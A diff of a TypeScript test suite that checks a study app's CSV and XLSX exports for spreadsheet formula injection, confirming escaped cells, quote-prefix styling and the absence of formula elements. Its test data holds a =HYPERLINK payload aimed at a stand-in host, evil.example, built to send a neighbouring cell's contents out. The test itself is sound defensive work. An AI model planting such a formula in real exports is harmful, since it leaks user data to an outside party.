@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { chromium } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { formulaCells, readCsvAs, SEPARATORS } from '../../unit/io/hostileCells';
 import { findAll, part, sheetCells, textOf } from './ooxml';
 import { reportFixture, type ReportFixture } from './reportFixture';
 
@@ -53,22 +54,26 @@ describe('exports of hostile study text', () => {
     }
   }, 60_000);
 
-  it('CSV: formula cells get a leading apostrophe; numbers stay numbers', () => {
+  it('CSV: no cell starts a formula when read with ",", ";" or TAB as the separator; numbers stay numbers', () => {
     const quotes = files.get('Hostile-quotes.csv')!.toString('utf8');
     expect(quotes).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"") good value"`);
-    for (const line of quotes.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
     const themes = files.get('Hostile-themes.csv')!.toString('utf8');
-    expect(themes).toContain('Price <b>&amp;<i>,1,5,1,1,2,4,50,Anything about what things cost.');
+    // "&amp;" holds a ";", so the cell is quoted: a ";" spreadsheet keeps it one piece.
+    expect(themes).toContain('"Price <b>&amp;<i>",1,5,1,1,2,4,50,Anything about what things cost.');
+    for (const name of ['Hostile-themes.csv', 'Hostile-breakdown.csv', 'Hostile-quotes.csv'])
+      for (const separator of SEPARATORS) expect(formulaCells(readCsvAs(files.get(name)!, separator)), `${name} read with ${JSON.stringify(separator)}`).toEqual([]);
   });
 
-  it('XLSX: re-read with the app\'s zip and XML readers; no formulas, formula-like text escaped, numbers numeric', () => {
+  it('XLSX: re-read with the app\'s zip and XML readers; no formulas, text exactly as written with the quote-prefix style, numbers numeric', () => {
     const bytes = files.get('Hostile.xlsx')!;
     const themes = sheetCells(bytes, 1);
     expect(themes.find(([ref]) => ref === 'A2')).toEqual(['A2', 'inlineStr', 'Price <b>&amp;<i>']);
     expect(themes.find(([ref]) => ref === 'C2')).toEqual(['C2', undefined, '5']); // codings: a number cell
     const quotes = sheetCells(bytes, 3);
-    expect(quotes.map(([, , text]) => text)).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click") good value`);
-    for (const [, , text] of quotes) expect(text).not.toMatch(/^[=+\-@]/);
+    expect(quotes.map(([, , text]) => text)).toContain(`=HYPERLINK("http://evil.example/?"&A1,"click") good value`);
+    const quotePrefixed = findAll(findAll(part(bytes, 'xl/styles.xml'), 'cellXfs')[0]!, 'xf').map((xf) => xf.attrs.get('quotePrefix') === '1');
+    for (const c of findAll(part(bytes, 'xl/worksheets/sheet3.xml'), 'c'))
+      if (c.attrs.get('t') === 'inlineStr') expect(quotePrefixed[Number(c.attrs.get('s'))], c.attrs.get('r')).toBe(true);
     for (const n of [1, 2, 3, 4, 5, 6]) expect(findAll(part(bytes, `xl/worksheets/sheet${n}.xml`), 'f')).toEqual([]);
   });
 
